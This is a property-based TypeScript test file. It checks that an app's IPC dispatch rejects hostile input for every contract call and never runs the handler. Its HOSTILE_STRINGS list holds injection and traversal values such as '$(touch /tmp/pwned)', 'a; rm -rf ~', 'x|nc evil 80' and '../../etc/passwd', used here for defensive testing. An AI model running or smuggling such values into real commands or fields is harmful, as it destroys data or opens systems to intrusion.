// Hostile input against every call of the contract, through main's one dispatch path: wrong types, huge
// strings, path traversal and shell metacharacters. Each gets a validation error and its handler never runs.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { callSchemas } from '../app/contract/calls.js';
import { CALL_NAMES, type CallName } from '../app/contract/names.js';
import { dispatch, type CallerEvent, type CallerPolicy } from './ipc.js';

const HOSTILE_STRINGS = [
  '../../etc/passwd',
  '..',
  'library/../../x',
  '$(touch /tmp/pwned)',
  '`id`',
  'a; rm -rf ~',
  'name && reboot',
  'x|nc evil 80',
  '\u0000',
  'a\nb',
  '-rf',
  '--driver=evil',
  ' ',
  'x'.repeat(1_000_000),
];

/** Fields whose values are names, digests or ids: none of the hostile strings may pass. */
const NAME_FIELDS = new Set([
  'image',
  'repository',
  'repo',
  'tag',
  'engine',
  'name',
  'driver',
  'planId',
  'id',
]);

const event: CallerEvent = {
  sender: { id: 1, mainFrame: { frameToken: 'main' } },
  senderFrame: { url: 'file:///app/renderer/index.html', frameToken: 'main', parent: null },
};
const policy: CallerPolicy = { isOurWebContents: () => true, isTrustedUrl: () => true };
const log = { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never;

function objectShape(schema: z.ZodType): Record<string, z.ZodType> | undefined {
  let s = schema as unknown as {
    def?: { type?: string; innerType?: unknown; shape?: unknown };
    shape?: unknown;
  };
  // Unwrap optional/nullable to reach an object's fields.
  while (s?.def && (s.def.type === 'optional' || s.def.type === 'nullable')) s = s.def.innerType as typeof s;
  return s?.def?.type === 'object' ? (s.shape as Record<string, z.ZodType>) : undefined;
}

async function run(name: CallName, input: unknown) {
  let ran = false;
  const result = await dispatch(
    name,
    async () => {
      ran = true;
      throw new Error('must not run');
    },
    event,
    input,
    policy,
    log,
  );
  return { result, ran };
}

describe('every contract call refuses hostile input', () => {
  const hostile = fc.oneof(
    fc.anything({ maxDepth: 3 }),
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.constantFrom(null, 0, -1, Infinity, NaN, true, [], {}, { __proto__: { polluted: true } }),
  );

  it.each(CALL_NAMES.map((n) => [n]))('%s: invalid values never reach the handler', async (name) => {
    const schema = callSchemas[name].input;
    const shape = objectShape(schema);
    const input = shape
      ? fc.oneof(hostile, fc.record(Object.fromEntries(Object.keys(shape).map((k) => [k, hostile]))))
      : hostile;
    await fc.assert(
      fc.asyncProperty(input, async (value) => {
        if (schema.safeParse(value).success) return; // a valid input is not hostile
        const { result, ran } = await run(name, value);
        expect(ran).toBe(false);
        expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
      }),
      { numRuns: 150 },
    );
  });

  it.each(CALL_NAMES.map((n) => [n]))(
    '%s: traversal and shell metacharacters in names are refused',
    async (name) => {
      const shape = objectShape(callSchemas[name].input);
      const fields = Object.keys(shape ?? {}).filter((k) => NAME_FIELDS.has(k));
      for (const field of fields) {
        for (const bad of HOSTILE_STRINGS) {
          const { result, ran } = await run(name, { [field]: bad });
          expect(ran, `${name} ran with ${field}=${JSON.stringify(bad.slice(0, 40))}`).toBe(false);
          expect(result.ok).toBe(false);
        }
      }
    },
  );

  it('prune selections with traversal in repository or tag names are refused', async () => {
    for (const bad of HOSTILE_STRINGS) {
      for (const item of [{ repo: bad }, { repo: 'library/busybox', tag: bad }]) {
        const { result, ran } = await run('cache.plan', { selection: { kind: 'items', items: [item] } });
        expect(ran).toBe(false);
        expect(result.ok).toBe(false);
      }
    }
  });
});
